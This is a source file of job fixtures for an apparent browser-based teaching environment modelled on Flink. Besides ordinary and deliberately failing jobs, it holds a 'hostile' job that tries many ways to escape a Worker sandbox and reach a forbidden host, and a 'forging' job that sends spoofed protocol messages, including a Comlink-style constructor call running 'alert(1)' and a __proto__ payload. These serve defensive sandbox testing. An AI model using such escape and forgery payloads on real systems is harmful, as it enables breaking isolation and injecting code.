// The jobs of the walk, as a learner would type them. Lines that a test names are marked in the text.

/** Counts to `EACH` for four keys in keyed state, with a checkpoint each half second of model time. */
export const EACH = 150;
export const KEYS = ['a', 'b', 'c', 'd'];
export const counting = `import { CollectSink, type Collector, type KeyedContext, KeyedProcessFunction, StreamExecutionEnvironment, type ValueState, ValueStateDescriptor } from 'millrace';

type Count = { key: string; n: number };
class Counter extends KeyedProcessFunction<string, number, Count> {
  private count!: ValueState<number>;
  open() { this.count = this.getRuntimeContext().getState(new ValueStateDescriptor<number>('count')); }
  processElement(_value: number, context: KeyedContext<string>, out: Collector<Count>) {
    const n = (this.count.value() ?? 0) + 1;
    this.count.update(n);
    out.collect({ key: context.getCurrentKey(), n });
  }
}
const env = StreamExecutionEnvironment.getExecutionEnvironment();
env.enableCheckpointing(500);
env.fromSequence(1, ${EACH * KEYS.length})
  .keyBy((value) => '${KEYS.join('')}'.charAt(value % ${KEYS.length})).process(new Counter()).uid('count')
  .sinkTo(new CollectSink('counts'));
env.execute('counting');
`;

/** What goes wrong, where, and what is said of it. */
export const faulty = {
  'an exception of a function': {
    line: 7,
    says: 'nine is too many',
    underlined: true,
    code: `import { DiscardingSink, StreamExecutionEnvironment } from 'millrace';

const env = StreamExecutionEnvironment.getExecutionEnvironment();
const atMost = (limit: number, value: number) => {
  // A helper of the job's own, called from a map.
  if (value > limit)
    throw new RangeError('nine is too many');
  return value;
};
env.fromSequence(1, 20)
  .map((value) => atMost(8, value) + 1)
  .sinkTo(new DiscardingSink());
env.execute('throws');
`,
  },
  'a call that Flink refuses': {
    line: 5,
    says: 'The parallelism of an operator must be at least 1',
    underlined: true,
    code: `import { DiscardingSink, StreamExecutionEnvironment } from 'millrace';

const env = StreamExecutionEnvironment.getExecutionEnvironment();
env.fromSequence(1, 20).map((value) => value + 1)
  .setParallelism(0)
  .sinkTo(new DiscardingSink());
env.execute('refused');
`,
  },
  'what only the engine refuses': {
    line: 5,
    says: '',
    underlined: false,
    code: `import { DiscardingSink, StreamExecutionEnvironment } from 'millrace';

const env = StreamExecutionEnvironment.getExecutionEnvironment();
const twice = 1;
const twice = 2;
env.fromSequence(1, 20).sinkTo(new DiscardingSink());
env.execute('declared twice');
`,
  },
};

export const endless = `import { DiscardingSink, StreamExecutionEnvironment } from 'millrace';

const env = StreamExecutionEnvironment.getExecutionEnvironment();
env.fromSequence(1, 20)
  .map((value) => {
    while (value === 7) {}
    return value;
  })
  .sinkTo(new DiscardingSink());
env.execute('endless');
`;

/**
 * Gets round what a job is given to the Worker's own global, tries every way out of it, and emits how each attempt ended.
 * `stranger`: host and port of a server that no request may reach.
 */
export const hostile = (stranger) => `import { CollectSink, StreamExecutionEnvironment } from 'millrace';
const said = { rows: [], begun: false };
const env = StreamExecutionEnvironment.getExecutionEnvironment();
env.setParallelism(1);
env.fromSequence(1, 1000000)
  .flatMap((_value, out) => {
    if (!said.begun) { said.begun = true; attack().catch((error) => said.rows.push({ attempt: 'all of it', ended: 'broke off: ' + error })); }
    for (const row of said.rows.splice(0)) out.collect(row);
  })
  .sinkTo(new CollectSink('attempts'));
env.execute('hostile');

async function attack() {
  let world;
  addEventListener('found', ({ currentTarget }) => { world = currentTarget; });
  dispatchEvent(new Event('found'));
  const url = 'http://${stranger}/';
  const opened = (target) => new Promise((resolve, reject) => { target.onopen = target.onload = target.onsuccess = resolve; target.onerror = reject; });
  const blob = (text) => world.URL.createObjectURL(new world.Blob([text], { type: 'text/javascript' }));
  const attempts = {
    'fetch': () => world.fetch(url + 'fetch'),
    'fetch without CORS': () => world.fetch(url + 'no-cors', { mode: 'no-cors', keepalive: true }),
    'XMLHttpRequest': () => { const request = new world.XMLHttpRequest(); request.open('GET', url + 'xhr'); request.send(); return opened(request); },
    'WebSocket': () => opened(new world.WebSocket('ws://${stranger}/socket')),
    'EventSource': () => opened(new world.EventSource(url + 'events')),
    'importScripts': () => world.importScripts(url + 'scripts'),
    'import of http': () => { world.importScripts(blob('self.reached = import("' + url + 'module")')); return world.reached; },
    'import of data': () => { world.importScripts(blob('self.reached = import("data:text/javascript,1")')); return world.reached; },
    'indexedDB.open': () => opened(world.indexedDB.open('millrace')),
    'indexedDB.deleteDatabase': () => opened(world.indexedDB.deleteDatabase('millrace')),
    'caches': () => world.caches.open('x'),
    'BroadcastChannel': () => { new world.BroadcastChannel('walk').postMessage('x'); },
    'nested Worker': () => new world.Worker(blob('fetch("' + url + 'nested")')),
    'SharedWorker': () => new world.SharedWorker(blob('fetch("' + url + 'shared")')),
    'storage directory': () => world.navigator.storage.getDirectory(),
    'eval': () => world.eval('1'),
    'parent': () => world.parent.document.body,
    'localStorage': () => world.localStorage.length,
  };
  for (const [attempt, make] of Object.entries(attempts)) {
    const tooLate = new Promise((resolve, reject) => world.setTimeout(() => reject(new Error('no answer')), 1500));
    const ended = await Promise.race([Promise.resolve().then(make), tooLate]).then(() => 'worked', () => 'failed');
    said.rows.push({ attempt, ended });
  }
  said.rows.push({ attempt: 'all of it', ended: 'tried' });
}
`;

/** Sends five forgeries before the true answer of a step: of another step, in Comlink's shape, of a strange type, oversized, of the JobManager. */
export const FORGERIES = 5;
export const forging = `import { CollectSink, StreamExecutionEnvironment } from 'millrace';
const env = StreamExecutionEnvironment.getExecutionEnvironment();
env.setParallelism(1);
env.fromSequence(1, 40)
  .map((value) => {
    if (value === 5) forge();
    return { key: 'last', value };
  })
  .sinkTo(new CollectSink('numbers'));
env.execute('forging');

function forge() {
  let world;
  addEventListener('found', ({ currentTarget }) => { world = currentTarget; });
  dispatchEvent(new Event('found'));
  const { postMessage } = world;
  world.postMessage = (answer) => {
    world.postMessage = postMessage;
    const { step, output } = answer;
    const send = (message) => world.postMessage(message);
    send({ type: 'applied', step: step - 1, output });
    send({ id: 'a', type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [{ type: 'RAW', value: 'alert(1)' }] });
    send({ type: '__proto__', path: ['__proto__'] });
    send('x'.repeat(1000000));
    send({ type: 'applied', step, output: { ...output, events: [{ type: 'jobStatus', to: 'FAILED', place: { step, index: 0 }, time: 0, cause: null }] } });
    return send(answer);
  };
}
`;
